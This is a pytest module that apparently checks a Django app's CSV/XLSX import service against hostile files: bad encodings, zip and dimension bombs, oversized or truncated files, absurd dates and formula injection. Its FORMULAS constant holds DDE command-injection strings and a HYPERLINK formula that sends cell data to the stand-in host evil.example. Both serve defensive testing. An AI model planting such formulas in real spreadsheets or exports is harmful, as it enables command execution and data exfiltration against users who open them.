"""Hostile files for every registered import kind, through the import service (``run_import``).

Each file is refused with a clear reason, or read as the text it holds; nothing is written unless
every row is good. The kinds come from the registry, so a kind added later is covered (or fails
for lack of a sample in ``samples.py``).
"""

from __future__ import annotations

import time
from typing import Any

import pytest
from django.apps import apps

from accord.lib import tabular
from accord.lib.importing import importer_kinds
from accord.lib.tabular import MB
from accord.operations import exports
from tests.hostile.conftest import counts, csv_bytes
from tests.hostile.files import Formula, dimension_bomb, ratio_bomb, sheet_cells, xlsx_with_sheet
from tests.hostile.samples import SAMPLES

KINDS = importer_kinds()
ROWS = 50_000
BAD_EVERY = 50  # 1,000 bad rows in 50,000
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def test_every_import_kind_has_a_sample() -> None:
    assert set(KINDS) == set(SAMPLES), "give each new import kind a sample in tests/hostile/samples.py"


def good_csv(kind: str, n: int = 3, **changed: str) -> Any:
    sample = SAMPLES[kind]
    return sample.header, [sample.row(i, **changed) for i in range(n)]


def reasons(result: Any) -> str:
    return " | ".join(str(error) for error in result.errors)


@pytest.mark.parametrize("kind", KINDS)
def test_hostile_files_are_refused_with_a_reason_and_nothing_written(
    kind: str, world: Any, imported: Any, settings: Any
) -> None:
    header, rows = good_csv(kind)
    sample = SAMPLES[kind]
    text = csv_bytes(header, rows).decode()
    latin = csv_bytes(header, [*rows, sample.row(9, **{header[0]: sample.row(9)[0] + "é"})])
    padded = text.encode() + b"\n" * tabular.SNIFF_BYTES  # empty lines: the sample is all UTF-8
    semicolons = ";".join(header) + "\n" + "".join(",".join(row) + "\n" for row in rows)
    truncated = xlsx_with_sheet(sheet_cells([list(header), *rows]))
    far_cells = dict.fromkeys(range(2, 10), "x")
    hostile: dict[str, tuple[bytes, str, str]] = {
        "utf-16, odd byte count": (text.encode("utf-16") + b"A", "data.csv", "not UTF-16 LE text"),
        "utf-16 BE, lone surrogate": (
            "\ufeff".encode("utf-16-be") + text.encode("utf-16-be") + b"\xdc\x00",
            "data.csv",
            "not UTF-16 BE text",
        ),
        "utf-16 without a BOM": (text.encode("utf-16-le"), "data.csv", "NUL character"),
        "windows-1252 after a utf-8 sample": (
            padded + latin.decode("utf-8").encode("latin-1"),
            "data.csv",
            "not UTF-8 text, though the file's beginning is",
        ),
        "no windows-1252 character": (text.encode() + b"\x81\n", "data.csv", "not Windows-1252 text"),
        "a whole row in one cell": (
            ('"' + ";".join(header) + '"\n').encode("cp1252"),
            "data.csv",
            "this file seems to be separated by ';'",
        ),
        "mixed separators": (semicolons.encode(), "data.csv", "row 2, column"),
        "nul byte": (
            text.replace(rows[1][0], rows[1][0][:1] + "\0" + rows[1][0][1:]).encode(),
            "d.csv",
            "NUL",
        ),
        "truncated xlsx": (truncated[: len(truncated) * 2 // 3], "data.xlsx", "XLSX"),
        "zip bomb": (ratio_bomb(), "data.xlsx", "zip bomb"),
        # (a row past 1,048,576: tests/lib/test_tabular_bounds.py; reading it takes a second a kind)
        "cells past the cap": (
            xlsx_with_sheet(sheet_cells([list(header)], far=far_cells, far_column="XFD")),
            "data.xlsx",
            "ACCORD_IMPORT_MAX_XLSX_CELLS",
        ),
        "not an xlsx": (text.encode(), "data.xlsx", "not an XLSX file"),
        "too large": (text.encode() + b"#" * MB, "data.csv", "at most 1 MB can be imported"),
    }
    settings.ACCORD_IMPORT_MAX_MB = 1
    settings.ACCORD_IMPORT_MAX_XLSX_CELLS = 100_000
    before = counts()
    for name, (data, filename, reason) in hostile.items():
        started = time.monotonic()
        result = imported(kind, data, filename)
        assert reason in reasons(result), f"{name}: {reasons(result)}"
        assert time.monotonic() - started < 5, name
        assert result.created == result.updated == 0
    assert counts() == before


@pytest.mark.parametrize("kind", KINDS)
def test_the_review_s_dimension_bomb_is_read_by_its_cells(kind: str, world: Any, imported: Any) -> None:
    """A good file declaring A1:XFD1048576, with one last cell in row 1,048,576: read in a moment,
    and that row's cell is judged like any other (a row lacking its required cells)."""
    header, rows = good_csv(kind)
    before = counts()
    started = time.monotonic()
    result = imported(kind, dimension_bomb([list(header), *rows]), "bomb.xlsx")
    assert time.monotonic() - started < 10
    assert result.errors and {e.row for e in result.errors} == {1_048_576}, reasons(result)
    assert counts() == before


@pytest.mark.parametrize("kind", KINDS)
def test_cr_only_line_ends_and_a_truncated_csv_are_read_as_rows(kind: str, world: Any, imported: Any) -> None:
    header, rows = good_csv(kind)
    data = csv_bytes(header, rows, newline="\r")
    before = counts()
    cut = imported(kind, data[: len(data) - len(rows[-1][-1]) - len(rows[-1][-2]) - 3])
    assert cut.errors and {e.row for e in cut.errors} == {4}, reasons(cut)  # the last row, cut short
    assert counts() == before
    result = imported(kind, data)
    assert not result.errors, reasons(result)
    assert (result.rows, result.created) == (3, 3)


@pytest.mark.parametrize("kind", [kind for kind in KINDS if SAMPLES[kind].date_column])
def test_absurd_dates_are_refused_with_the_sane_range(kind: str, world: Any, imported: Any) -> None:
    column = SAMPLES[kind].date_column
    assert column is not None
    header, rows = good_csv(kind)
    position = header.index(column)
    for year in ("9999", "0001", "1899", "2200"):
        spoiled = [[*row[:position], year + row[position][4:], *row[position + 1 :]] for row in rows]
        result = imported(kind, csv_bytes(header, spoiled))
        assert {(e.row, e.column) for e in result.errors} == {(2, column), (3, column), (4, column)}, reasons(
            result
        )
        assert "between 1900 and 2199" in result.errors[0].reason
    header_ok = [[*row[:position], "2199" + row[position][4:], *row[position + 1 :]] for row in rows]
    assert not imported(kind, csv_bytes(header, header_ok), dry_run=True).errors


@pytest.mark.parametrize("kind", KINDS)
def test_formula_cells_are_stored_as_text_and_neutralised_in_exports(
    kind: str, world: Any, imported: Any
) -> None:
    sample = SAMPLES[kind]
    if sample.stored is None:  # no text column: a formula is a bad cell like any other
        column = sample.bad[0]
        result = imported(kind, csv_bytes(*good_csv(kind, 1, **{column: FORMULAS[1]})))
        assert [(e.row, e.column, e.value) for e in result.errors] == [(2, column, FORMULAS[1])]
        return
    label, field = sample.stored
    column = next(c for c in sample.header if c == field or c.endswith(field) or field in c)
    header = list(sample.header)
    rows = [sample.row(i, **{column: formula}) for i, formula in enumerate(FORMULAS)]
    result = imported(kind, csv_bytes(header, rows))
    assert not result.errors, reasons(result)
    # an XLSX text cell starting with "=", and a real formula cell: never evaluated; the cached value
    # (what the spreadsheet showed) is read, never the formula
    xlsx_rows = [sample.row(10 + i) for i in range(2)]
    xlsx_rows[0][header.index(column)] = FORMULAS[0].replace("A0", "B0")
    xlsx_rows[1][header.index(column)] = Formula('HYPERLINK("http://evil.example","shown")', cached="shown")
    result = imported(kind, xlsx_with_sheet(sheet_cells([header, *xlsx_rows])), "f.xlsx")
    assert not result.errors, reasons(result)
    model = apps.get_model(label)
    stored = set(model.objects.values_list(field, flat=True))
    assert {*FORMULAS, FORMULAS[0].replace("A0", "B0"), "shown"} <= stored
    if kind in exports.KINDS:
        download = exports.as_csv(kind, world.nw_ta).decode("utf-8-sig")
        for formula in FORMULAS:
            assert f"'{formula}" in download.replace('""', '"')


@pytest.mark.parametrize("kind", KINDS)
def test_1000_bad_rows_in_50000_are_all_reported_and_nothing_written(
    kind: str, world: Any, imported: Any
) -> None:
    sample = SAMPLES[kind]
    column, value = sample.bad
    bad_rows = {i for i in range(ROWS) if i % BAD_EVERY == BAD_EVERY // 2}
    rows = [sample.row(i, **{column: value}) if i in bad_rows else sample.row(i) for i in range(ROWS)]
    before = counts()
    result = imported(kind, csv_bytes(sample.header, rows))
    assert result.rows == ROWS
    assert len(result.errors) == len(bad_rows) == 1000
    assert [(e.row, e.column) for e in result.errors] == [(i + 2, column) for i in sorted(bad_rows)]
    assert counts() == before
